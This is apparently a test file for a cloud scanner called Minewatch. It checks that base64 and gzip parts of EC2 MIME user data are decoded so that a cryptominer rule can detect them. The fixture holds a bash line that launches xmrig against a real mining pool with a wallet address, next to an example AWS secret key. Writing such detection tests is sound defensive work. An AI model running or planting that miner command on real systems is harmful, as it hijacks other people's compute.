/**
 * MIME multipart user data: cloud-init runs base64 (and gzip) parts, so Minewatch must read them.
 */
import { gzipSync } from "node:zlib";
import { describe, expect, it } from "vitest";
import { decodeUserData } from "../../lambda/collect/ec2.js";
import { expandMimeMultipart } from "../../lambda/collect/user-data-mime.js";
import { ec2UserdataMiner } from "../../lambda/rules/ec2-userdata-miner.js";
import { buildSnapshot, instance, ruleContext } from "../support/snapshot-builder.js";

const MINER = [
  "#!/bin/bash",
  "export AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
  "./xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p x",
].join("\n");
const CLOUD_CONFIG = "#cloud-config\npackages:\n  - nginx\n";

/** What `cloud-init devel make-mime` (or a script imitating it) writes. */
function mime(parts: Array<{ type: string; body: string; base64?: boolean }>, boundary = "===============5127==") {
  return [
    `Content-Type: multipart/mixed; boundary="${boundary}"`,
    "MIME-Version: 1.0",
    "",
    ...parts.flatMap((p) => [
      `--${boundary}`,
      `Content-Type: ${p.type}; charset="us-ascii"`,
      "MIME-Version: 1.0",
      ...(p.base64 ? ["Content-Transfer-Encoding: base64"] : []),
      "",
      p.body,
    ]),
    `--${boundary}--`,
    "",
  ].join("\n");
}

const b64 = (data: string | Buffer) => Buffer.from(data).toString("base64");
/** base64 folded at 76 characters, as MIME writers do. */
const folded = (data: string | Buffer) => b64(data).replace(/(.{76})/g, "$1\n");

describe("expandMimeMultipart", () => {
  it("decodes base64 parts in place and keeps plain parts and headers", () => {
    const text = expandMimeMultipart(
      mime([
        { type: "text/cloud-config", body: CLOUD_CONFIG },
        { type: "text/x-shellscript", body: folded(MINER), base64: true },
      ]),
    );
    expect(text).toContain("packages:\n  - nginx");
    expect(text).toContain('Content-Type: text/x-shellscript; charset="us-ascii"');
    expect(text).toContain("[Minewatch: decoded from base64]");
    expect(text).toContain("stratum+tcp://pool.supportxmr.com:3333");
    expect(text).toMatch(/--===============5127==--/);
  });

  it("decodes a gzip part inside base64, and says when a part is binary", () => {
    const text = expandMimeMultipart(
      mime([
        { type: "text/x-shellscript", body: folded(gzipSync(MINER)), base64: true },
        { type: "application/octet-stream", body: folded(Buffer.from([0, 1, 2, 3, 255, 0, 7])), base64: true },
      ]),
    );
    expect(text).toContain("[Minewatch: decoded from base64 and gzip]");
    expect(text).toContain("./xmrig -o stratum+tcp://pool.supportxmr.com:3333");
    expect(text).toContain("[Minewatch: base64 part of 7 bytes is binary, not shown]");
  });

  it("reads an unquoted boundary and a nested multipart part", () => {
    const inner = mime([{ type: "text/x-shellscript", body: b64(MINER), base64: true }], "inner-b");
    const outer = [
      "Content-Type: multipart/mixed; boundary=outer-b",
      "",
      "--outer-b",
      inner.trimEnd(),
      "--outer-b--",
      "",
    ].join("\n");
    expect(expandMimeMultipart(outer)).toContain("stratum+tcp://pool.supportxmr.com:3333");
  });

  it("leaves anything that is not a multipart message alone", () => {
    expect(expandMimeMultipart(MINER)).toBeUndefined();
    expect(expandMimeMultipart("Content-Type: text/plain\n\nhello")).toBeUndefined();
  });
});

describe("MIME user data end to end", () => {
  it("is decoded, redacted, hashed as sent, and caught by MW-EC2-USERDATA-MINER", () => {
    const message = mime([
      { type: "text/cloud-config", body: CLOUD_CONFIG },
      { type: "text/x-shellscript", body: folded(gzipSync(MINER)), base64: true },
    ]);
    const userData = decodeUserData(b64(gzipSync(message)));
    expect(userData.sizeBytes).toBe(Buffer.byteLength(message));
    expect(userData.text).toContain("stratum+tcp://pool.supportxmr.com:3333");
    expect(userData.text).not.toContain("wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY");

    const snapshot = buildSnapshot({ instances: [instance({ instanceType: "t3.medium", userData })] });
    const signals = ec2UserdataMiner.evaluate(snapshot, ruleContext(snapshot));
    expect(signals).toHaveLength(1);
    expect(signals[0]?.severity).toBe("critical");
    expect(signals[0]?.message).toContain("stratum+tcp://pool.supportxmr.com:3333");
  });

  it("the same message undecoded hides the miner: what the decoding is for", () => {
    const message = mime([{ type: "text/x-shellscript", body: folded(MINER), base64: true }]);
    expect(message).not.toContain("stratum");
    const snapshot = buildSnapshot({
      instances: [
        instance({
          instanceType: "t3.medium",
          userData: { text: message, sha256: "0".repeat(64), sizeBytes: message.length, truncated: false },
        }),
      ],
    });
    expect(ec2UserdataMiner.evaluate(snapshot, ruleContext(snapshot))).toEqual([]);
  });
});
